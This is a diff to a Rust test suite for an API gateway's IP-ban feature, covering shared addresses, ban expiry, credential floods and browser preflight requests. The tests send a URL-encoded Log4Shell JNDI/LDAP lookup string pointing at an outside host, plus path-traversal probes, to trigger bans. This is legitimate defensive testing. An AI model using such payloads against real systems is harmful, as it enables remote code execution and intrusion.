@@ -1,10 +1,11 @@
 //! Bans: earned by the address that failed, told with the time that is left, and not shared by its honest neighbours.
 
+use portcullis_testkit::tokens::SigningKey;
 use portcullis_testkit::upstream::Upstream;
 use portcullis_testkit::wait::{self, PATIENCE};
-use portcullis_testkit::wire::Answer;
+use portcullis_testkit::wire::{self, Answer, Conn};
 
-use crate::harness::{AUTHENTICATED, Gateway, Site, of_kind, portcullis};
+use crate::harness::{AUTHENTICATED, Gateway, Site, bearer, claims, of_kind, portcullis};
 
 const BANS: &str = r#"
 [[network]]
@@ -145,7 +146,8 @@ fn probing_many_paths_bans_and_a_ban_ends() {
     });
     assert!(banned, "{refused} probes earned no ban");
     assert!(refused >= 4, "{refused} probes are too few for a ban");
-    let again = wait::until(PATIENCE, || (world.good("127.0.0.60").status() == 200).then_some(()));
+    let again =
+        wait::until(PATIENCE, || (world.gateway.get_from("127.0.0.60", "/", &[]).status() == 401).then_some(()));
     assert!(again.is_some(), "the ban does not end");
     assert_eq!(world.gateway.metric("portcullis_bans_active"), Some(0.0));
 }
@@ -185,6 +187,113 @@ fn an_exploit_bans_at_once_and_a_search_about_one_does_not() {
         "{of_address}"
     );
     assert!(of_principal.starts_with("\"user:alice is banned"), "{of_principal}");
+}
+
+/// Nobody sends that by accident: one request bans.
+const EXPLOIT: &str = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
+
+fn scope(gateway: &Gateway, on: &str) -> String {
+    let (code, said, errors) = ask(gateway, &["-o", "json", "ban", "explain", "--ip", on]);
+    assert_eq!(code, Some(0), "{errors}");
+    let report: serde_json::Value = serde_json::from_str(&said).unwrap();
+    report["bans"][0]["scope"].as_str().unwrap().to_owned()
+}
+
+/// A gateway that has just begun knows nobody, and a scanner is the first who comes.
+#[test]
+fn behind_a_shared_address_a_scanner_comes_first_and_nobody_with_a_credential_that_holds_is_refused() {
+    const OFFICE: &str = "127.0.0.74";
+    let upstream = Upstream::start();
+    let mut site = Site::new(&upstream.url());
+    let signer = SigningKey::es256("k");
+    site.accept_tokens(&[&signer], "");
+    let tokens = (0..15).map(|n| ("Authorization", bearer(&signer, &claims(&format!("user-{n}")))));
+    let mut clients: Vec<(&str, String)> = tokens.collect();
+    clients.extend((15..30).map(|n| ("X-Api-Key", site.key(&format!("k{n}"), &format!("user:user-{n}"), ""))));
+    site.policy(AUTHENTICATED);
+    let gateway = site.start();
+    let scan = |n: u32| gateway.get_from(OFFICE, &format!("/{n}/..;/admin"), &[]);
+    gateway.check_refused("the exploit", &gateway.get_from(OFFICE, EXPLOIT, &[]), 401, "authn.missing");
+    gateway.check_refused("no credential", &gateway.get_from(OFFICE, "/", &[]), 403, "ban.active");
+    assert_eq!(scope(&gateway, OFFICE), "address", "nobody else was seen there yet");
+    let mut refused = 0;
+    for round in 0..10_u32 {
+        for (n, (header, credential)) in (0_u32..).zip(&clients) {
+            scan(round * 100 + n);
+            refused += usize::from(gateway.get_from(OFFICE, "/", &[(header, credential)]).status() != 200);
+        }
+    }
+    assert_eq!(refused, 0, "of 300 good requests");
+    assert_eq!(scope(&gateway, OFFICE), "anonymous");
+    gateway.check_refused("no credential", &gateway.get_from(OFFICE, "/", &[]), 403, "ban.active");
+    gateway.check_refused("a guess", &gateway.get_from(OFFICE, "/", &[("X-Api-Key", "pcl_guess")]), 403, "ban.active");
+    assert_eq!(upstream.requests().len(), 300, "the scanner reached nothing");
+}
+
+/// What a ban saves is saved: a flood of credentials that do not hold is refused unseen.
+#[test]
+fn under_a_ban_for_something_else_only_so_many_credentials_are_looked_at() {
+    const SOURCE: &str = "127.0.0.75";
+    let world = world("", "");
+    world.gateway.get_from(SOURCE, EXPLOIT, &[]);
+    for _ in 0..40 {
+        world.gateway.check_refused("a guess", &world.bad(SOURCE), 403, "ban.active");
+    }
+    world.check_banned("the right one, too late", &world.good(SOURCE));
+    assert_eq!(scope(&world.gateway, SOURCE), "address");
+    assert_eq!(world.good("127.0.0.76").status(), 200, "the neighbour");
+    // By hand nobody is heard from the first.
+    let (code, ..) = ask(&world.gateway, &["ban", "add", "--ip", "127.0.0.76", "--for", "1h", "--reason", "by hand"]);
+    assert_eq!(code, Some(0));
+    world.gateway.check_refused("by hand", &world.good("127.0.0.76"), 403, "ban.active");
+}
+
+#[test]
+fn who_tries_again_while_banned_is_free_when_the_ban_ends() {
+    let world = world("[ban]\nfirst = \"1s\"\nlongest = \"1s\"\n", "");
+    let gateway = &world.gateway;
+    gateway.get_from("127.0.0.77", EXPLOIT, &[]);
+    gateway.check_refused("banned", &gateway.get_from("127.0.0.77", "/", &[]), 403, "ban.active");
+    // It retries as fast as it can, over many paths, with and without credentials, until something else is answered.
+    let mut tries = 0;
+    let free = wait::until(PATIENCE, || {
+        tries += 1;
+        let guess: &[(&str, &str)] = if tries % 2 == 0 { &[("X-Api-Key", "pcl_guess")] } else { &[] };
+        let answer = gateway.get_from("127.0.0.77", &format!("/page/{tries}"), guess);
+        (answer.status() != 403).then_some(())
+    });
+    assert!(free.is_some(), "the ban does not end");
+    for page in 0..3 {
+        let answer = gateway.get_from("127.0.0.77", &format!("/again/{page}"), &[]);
+        gateway.check_refused("after it", &answer, 401, "authn.missing");
+    }
+    assert_eq!(gateway.metric("portcullis_bans_active"), Some(0.0), "after {tries} tries");
+    assert_eq!(of_kind(&world.gateway.stop(), "ban.created").len(), 1);
+}
+
+/// A browser asks without a credential whether it may come with one.
+#[test]
+fn a_browsers_question_from_a_banned_address_is_answered_like_the_request_that_follows() {
+    let upstream = Upstream::start();
+    let mut site = Site::without_route(&upstream.url());
+    site.add(
+        "[[route]]\nname = \"app\"\nupstream = \"app\"\n\
+         cors = { origins = [\"https://app.test\"], methods = [\"GET\"], headers = [\"x-api-key\"] }\n",
+    );
+    let key = site.key("alice", "user:alice", "");
+    site.policy(AUTHENTICATED);
+    let gateway = site.start();
+    let preflight = |origin: &str| {
+        let mut connection = Conn::open_from("127.0.0.78".parse().unwrap(), gateway.address);
+        let headers = [("Origin", origin), ("Access-Control-Request-Method", "GET")];
+        connection.send(wire::request("OPTIONS", "/", &headers, b""));
+        connection.answer()
+    };
+    gateway.get_from("127.0.0.78", EXPLOIT, &[]);
+    assert_eq!(preflight("https://app.test").status(), 204);
+    gateway.check_refused("of elsewhere", &preflight("https://other.test"), 403, "ban.active");
+    let from_browser = [("Origin", "https://app.test"), ("X-Api-Key", key.as_str())];
+    assert_eq!(gateway.get_from("127.0.0.78", "/", &from_browser).status(), 200);
 }
 
 #[test]
